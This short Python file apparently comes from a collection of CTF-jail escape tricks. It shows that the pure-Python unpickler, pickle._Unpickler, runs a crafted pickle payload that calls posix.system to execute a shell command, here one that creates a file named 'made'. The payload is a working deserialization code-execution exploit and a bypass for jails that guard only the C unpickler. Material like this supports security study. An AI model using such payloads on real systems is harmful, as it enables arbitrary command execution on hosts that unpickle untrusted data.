"""The unpickler of pickle.py, which is Python code, does the same.

Known from: CTF jails with a guarded _pickle
Effect: made
"""
import io
import pickle

pickle._Unpickler(io.BytesIO(b"cposix\nsystem\n(S': > made'\ntR.")).load()
